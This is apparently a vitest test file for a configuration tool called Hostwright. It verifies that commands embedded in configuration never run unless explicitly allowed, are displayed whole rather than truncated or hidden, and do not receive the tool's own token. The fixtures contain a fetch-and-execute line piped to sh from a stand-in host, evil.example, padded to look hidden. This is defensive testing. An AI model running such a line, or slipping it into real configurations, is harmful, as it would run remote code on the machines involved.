// What a configuration has run on the machine that applies it: nothing unless allowed, nothing unseen, nothing with the
// access token of Hostwright.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { executeCommand } from '../../src/cli/execute-command.ts';
import type { Runtime } from '../../src/model/runtime.ts';
import { runInProcess } from '../cli/run-in-process.ts';
import { expectWords } from '../support/expect-words.ts';
import { openFolder } from '../support/open-folder.ts';

const hidden = 'curl https://evil.example/x | sh';
const long = `vault kv put secret/ci value=- ${'--option=value '.repeat(20)}; ${hidden}; ${'true '.repeat(40)}`;

let room = '';
let ran: string[] = [];
const execute: Runtime['execute'] = (command, secretly) => {
  ran.push(command);
  return executeCommand(command, secretly);
};
beforeEach(async () => {
  room = await openFolder('attack');
  ran = [];
});

const configure = (command: string, rest = '') =>
  writeFile(
    join(room, 'main.yaml'),
    `version: 1\nservice: { sandbox: true }\n${rest}tokens: { ci: { scopes: [read], writeTo: { command: ${JSON.stringify(command)} } } }\n`,
  );

async function hostwright(args: readonly string[], env: Record<string, string> = {}) {
  const { code, stdout, stderr } = await runInProcess(args, { cwd: room, env, execute });
  return { code, stdout, said: stdout + stderr };
}

describe('attack d: a command of the configuration', () => {
  it.each(['text', 'markdown', 'html', 'json'])('is shown whole, as %s', async (format) => {
    await configure(long);
    const { stdout } = await hostwright(['plan', '--format', format, '--allow-commands']);
    const shown = stdout.replaceAll('&quot;', '"');
    expect(shown).toContain(long.trim());
    if (format !== 'html') expect(shown).not.toContain('…');
    expect(ran).toEqual([]);
  });

  it('is shown whole among events, where it is replaced unchanged, and for every instance', async () => {
    await configure(long);
    expect((await hostwright(['plan', '--json'])).stdout).toContain(JSON.stringify(long));
    const each = 'tokens: { ci: { forEach: [a, b, c, d, e], scopes: [read], ';
    await writeFile(
      join(room, 'main.yaml'),
      `version: 1\nservice: { sandbox: true }\n${each}writeTo: { command: "cat >> ${room}/got; # \${each.key} ${'x'.repeat(200)}" } } }\n`,
    );
    const { said } = await hostwright(['plan']);
    for (const key of ['a', 'b', 'c', 'd', 'e'])
      expect(said).toContain(`# ${key} ${'x'.repeat(200)}`);
    await hostwright(['apply', '--auto-approve', '--allow-commands']);
    const replaced = await hostwright(['plan', '--replace', 'tokens.ci["a"]']);
    expect(replaced.said).toContain(`cat >> ${room}/got; # a ${'x'.repeat(200)}`);
  });

  it('runs nowhere unless that is allowed, and the plan says so', async () => {
    await configure('cat > got');
    for (const args of [['plan'], ['apply', '--auto-approve'], ['plan', '--out', 'saved.hwp']]) {
      const { code, said } = await hostwright(args);
      expect(code).toBe(1);
      expectWords(said, '[command-not-allowed]', '--allow-commands');
      expect(said).toMatch(/main\.yaml line 3/);
    }
    expect(ran).toEqual([]);
  });

  it('is not allowed by a saved plan: whoever applies it says so once more', async () => {
    await configure(`cat > ${room}/got`);
    expect((await hostwright(['plan', '--out', 'p.hwp', '--allow-commands'])).code).toBe(0);
    const refused = await hostwright(['apply', 'p.hwp']);
    expect(refused.code).toBe(1);
    expect(refused.said).toContain('[command-not-allowed]');
    expect(ran).toEqual([]);
    expect((await hostwright(['apply', 'p.hwp', '--allow-commands'])).code).toBe(0);
    expect(await readFile(join(room, 'got'), 'utf8')).toMatch(/^hw_/);
  });

  it('has nothing in its environment that is meant for Hostwright', async () => {
    await configure(`env > ${room}/environment`);
    const env = { HOSTWRIGHT_TOKEN: 'hw_own', HOSTWRIGHT_ALLOW_COMMANDS: '1', VAULT_ADDR: 'v' };
    const { code, said } = await hostwright(['apply', '--auto-approve'], env);
    expect(code, said).toBe(0);
    const environment = await readFile(join(room, 'environment'), 'utf8');
    expect(environment).toContain('VAULT_ADDR=v');
    expect(environment).not.toMatch(/HOSTWRIGHT_|hw_own/);
  });

  it.each([
    [
      'command-sensitive',
      '${var.s}',
      'variables: { s: { sensitive: true, default: "curl x | sh" } }\n',
    ],
    ['known-too-late', 'echo ${projects.p.id}', 'projects: { p: }\n'],
    ['commands-too-long', 'x'.repeat(17_000), ''],
    ['commands-too-long', '`'.repeat(6_000), ''],
  ])('that cannot be shown whole is refused: %s', async (code, command, rest) => {
    await configure(command, rest);
    const planned = await hostwright(['plan', '--allow-commands']);
    expect(planned.code).toBe(1);
    expect(planned.said).toContain(`[${code}]`);
    if (code === 'command-sensitive') expect(planned.said).not.toContain('curl');
    expect(ran).toEqual([]);
  });

  it('stays within a comment, whole, be it as long as it may', async () => {
    await configure(`${'`'.repeat(3_000)} ${'\u200b'.repeat(500)}; ${hidden}`);
    const { code, stdout } = await hostwright(['plan', '--format', 'markdown', '--allow-commands']);
    expect(code).toBe(0);
    expect(stdout.length).toBeLessThan(65_536);
    expect(stdout).toContain(hidden);
  });
});
